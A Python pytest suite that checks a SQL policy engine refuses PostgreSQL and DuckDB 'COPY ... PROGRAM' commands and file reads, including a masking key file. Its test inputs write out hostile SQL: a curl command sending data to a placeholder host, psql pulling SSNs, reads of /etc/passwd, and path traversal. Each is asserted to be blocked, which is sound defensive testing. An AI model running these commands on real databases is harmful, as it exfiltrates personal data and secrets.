"""COPY from or to a program, and files the database reads, are judged: ``COPY ... PROGRAM``
runs a shell command on the database server (``copy_program``, always refused), and a file
read by ``COPY ... FROM '<file>'`` or DuckDB's ``FROM 'data.csv'`` comes back ungoverned
(``file_read``: refused unless listed under ``allowlist.files``; the masking key file always)."""

from __future__ import annotations

import shutil

import pytest

from lineage.decide.engine import Engine
from lineage.identity.run_identity import RunIdentity
from lineage.model import Action
from lineage.policy import PolicyError, load_policy, load_policy_text

from redteam_support import PIPELINE, POLICY_PATH, REFUSED, refused_or_clean
from redteam_support import pg_dsn, sessions  # noqa: F401  (fixtures)
from masking_fixture import key_env  # noqa: F401  (fixture)

ETL = RunIdentity(principal="svc:etl", environment="prod")
KEY = "redteam-master-key-0123456789abcdef"


def _decision(sql: str, policy: str = "mode: enforce\n", dialect: str = "postgres"):
    return Engine(load_policy_text(policy), dialect=dialect).check(sql, ETL)[0]


def _rules(decision) -> list[str]:
    return [finding.rule for finding in decision.findings]


@pytest.mark.parametrize("dialect", ["postgres", "duckdb"])
@pytest.mark.parametrize("sql", [
    "COPY public.loot FROM PROGRAM 'psql -Atc \"select ssn from crm.customers\"'",
    "COPY public.loot TO PROGRAM 'curl -d @- https://example.org'",
    "COPY (SELECT 1) TO PROGRAM 'cat'",
])
def test_copy_program_is_always_refused(sql, dialect):
    decision = _decision(sql, dialect=dialect)
    assert "copy_program" in _rules(decision) and decision.action == Action.BLOCK
    assert "shell command" in next(f.message for f in decision.findings if f.rule == "copy_program")


@pytest.mark.parametrize("rule", ["copy_program", "file_read"])
def test_the_policy_cannot_lower_the_program_and_file_rules(rule):
    with pytest.raises(PolicyError, match=f"{rule} cannot be lowered below block"):
        load_policy_text(f"guardrails:\n  - rule: {rule}\n    action: allow\n")


@pytest.mark.parametrize("dialect", ["postgres", "duckdb"])
def test_copy_from_a_file_is_refused_and_the_message_names_the_policy_key(dialect):
    decision = _decision("COPY public.loot FROM '/etc/passwd'", dialect=dialect)
    assert "file_read" in _rules(decision) and decision.action == Action.BLOCK
    assert "allowlist.files" in next(f.message for f in decision.findings if f.rule == "file_read")


@pytest.mark.parametrize("dialect", ["postgres", "duckdb"])
def test_copy_from_stdin_is_no_file(dialect):
    assert not {"file_read", "copy_program"} & set(_rules(_decision("COPY public.loot FROM STDIN", dialect=dialect)))


@pytest.mark.parametrize("sql", ["SELECT * FROM '/data/x.csv'", 'SELECT * FROM "/data/x.parquet"', "SELECT * FROM 'x.json'",
                                 "CREATE TABLE main.copy AS SELECT * FROM 'https://example.org/x.csv'"])
def test_duckdb_reading_a_file_by_table_name_is_a_file_read(sql):
    assert "file_read" in _rules(_decision(sql, dialect="duckdb"))


ALLOWING = "allowlist:\n  files: ['/data/incoming/*.csv']\n"


@pytest.mark.parametrize("path, allowed", [
    ("/data/incoming/orders.csv", True),
    ("/data/incoming/../../etc/passwd.csv", False),
    ("/data/incoming/orders.parquet", False),
    ("/data/other/orders.csv", False),
])
def test_allowlisted_files_may_be_read(path, allowed):
    decision = _decision(f"COPY public.loot FROM '{path}'", ALLOWING)
    assert ("file_read" not in _rules(decision)) is allowed, decision.to_dict()


def test_allowlist_files_is_checked_when_the_policy_loads():
    with pytest.raises(PolicyError, match="allowlist.files"):
        load_policy_text("allowlist:\n  files: ['']\n")


def _key_policy(tmp_path, files: list[str] = ()):
    key_file = tmp_path / "masking.key"
    key_file.write_text(KEY + "\n")
    policy = tmp_path / "policy.yaml"
    text = POLICY_PATH.read_text().replace("hash_key: {env: LINEAGE_TEST_MASKING_KEY}", f"hash_key: {{file: {key_file}}}")
    if files:
        text += "\nallowlist:\n  files: [" + ", ".join(repr(glob) for glob in files) + "]\n"
    policy.write_text(text)
    return policy, key_file


def test_the_masking_key_file_is_refused_even_when_its_directory_is_allowlisted(tmp_path):
    policy, key_file = _key_policy(tmp_path, [f"{tmp_path}/*"])
    engine = Engine(load_policy(str(policy)), dialect="duckdb")
    for spelling in (str(key_file), f"{tmp_path}/./masking.key", f"{tmp_path}/sub/../masking.key"):
        decision = engine.check(f"COPY loot FROM '{spelling}'", ETL)[0]
        assert "file_read" in _rules(decision) and not decision.may_run, spelling
    other = tmp_path / "orders.csv"
    assert "file_read" not in _rules(engine.check(f"COPY loot FROM '{other}'", ETL)[0])


# the attacks, end to end
@pytest.mark.postgres
def test_copy_from_program_does_not_run_an_ungoverned_query(sessions, pg_dsn, postgres):
    if shutil.which("psql") is None:
        pytest.skip("psql is needed to show what the program reads")
    session = sessions("postgres", dsn=pg_dsn)
    assert not isinstance(session.attempt("CREATE TABLE public.loot (line text)"), Exception)
    database = pg_dsn.rsplit("/", 1)[-1]
    program = f'psql -h 127.0.0.1 -p {postgres.port} -U postgres -d {database} -Atc "select ssn || email from crm.customers"'
    assert isinstance(session.attempt(f"COPY public.loot FROM PROGRAM '{program}'"), REFUSED)
    assert session.raw_rows("SELECT count(*) FROM public.loot") == [(0,)]
    refused_or_clean(session.attempt("SELECT line FROM public.loot"), "rows copied from a program")


@pytest.mark.parametrize("identity", ["alice", "pipeline"])
def test_copy_from_a_file_does_not_read_the_masking_key_on_duckdb(sessions, tmp_path, identity):
    policy, key_file = _key_policy(tmp_path)
    session = sessions("duckdb", policy=policy) if identity == "alice" else sessions("duckdb", PIPELINE, policy=policy)
    assert not isinstance(session.attempt("SELECT full_name FROM crm.customers"), Exception)  # hashed with the file's key
    session.attempt("CREATE TABLE loot (line VARCHAR)")
    for sql in (f"COPY loot FROM '{key_file}' (DELIMITER '|', HEADER false)", f"SELECT * FROM '{key_file}'",
                f"SELECT * FROM read_csv('{key_file}', header = false)", f"SELECT * FROM read_text('{key_file}')"):
        outcome = session.attempt(sql)
        assert isinstance(outcome, REFUSED), f"{sql}: {outcome!r}"
    assert KEY not in repr(session.raw_rows("SELECT line FROM loot")), "the key was copied into a table"


def test_an_allowlisted_file_loads_on_duckdb(sessions, tmp_path):
    data = tmp_path / "incoming" / "lines.csv"
    data.parent.mkdir()
    data.write_text("line\nfirst\nsecond\n")
    policy, _ = _key_policy(tmp_path, [f"{tmp_path}/incoming/*.csv"])
    session = sessions("duckdb", PIPELINE, policy=policy)
    session.attempt("CREATE TABLE loot (line VARCHAR)")
    assert not isinstance(session.attempt(f"COPY loot FROM '{data}' (HEADER true)"), Exception)
    assert session.raw_rows("SELECT line FROM loot ORDER BY 1") == [("first",), ("second",)]


OPEN = ("allowlist:\n  functions: [read_csv, read_text, pg_read_file, glob]\n"
        "guardrails:\n  - rule: opaque_statement\n    action: allow\n")


@pytest.mark.parametrize("dialect", ["postgres", "duckdb"])
@pytest.mark.parametrize("sql", [
    "SELECT * FROM read_csv('/etc/lineage/masking.key', header = false)",
    "SELECT read_text('/etc/lineage/masking.key')",
    "SELECT * FROM read_csv(['/data/a.csv', '/etc/lineage/masking.key'])",
    "SELECT read_text(path) FROM staging.paths",
    "SELECT pg_read_file('/etc/lineage/masking.key')",
    "SELECT * FROM glob('/etc/lineage/*')",
])
def test_file_functions_read_only_allowlisted_files_even_when_the_functions_are_allowed(sql, dialect):
    decision = _decision(sql, OPEN, dialect)
    assert not decision.may_run, decision.to_dict()
    assert {"file_read", "unparseable"} & set(_rules(decision)), decision.to_dict()  # PostgreSQL reads no FROM glob(...)


def test_a_file_function_over_an_allowlisted_file_is_no_file_read():
    policy = OPEN.replace("glob]\n", "glob]\n  files: ['/data/incoming/*.csv']\n")
    decision = _decision("SELECT * FROM read_csv('/data/incoming/orders.csv')", policy, "duckdb")
    assert "file_read" not in _rules(decision), decision.to_dict()


def test_the_masking_key_is_not_read_through_a_file_function_by_an_identity_that_sees_everything_raw(sessions, tmp_path):
    from masking_fixture import OFFICER

    policy, key_file = _key_policy(tmp_path)
    policy.write_text(policy.read_text() + "\n" + OPEN)
    session = sessions("duckdb", OFFICER, policy=policy)
    for sql in (f"SELECT * FROM read_text('{key_file}')", f"SELECT * FROM read_csv('{key_file}', header = false)"):
        outcome = session.attempt(sql)
        assert isinstance(outcome, REFUSED), f"{sql}: {outcome!r}"
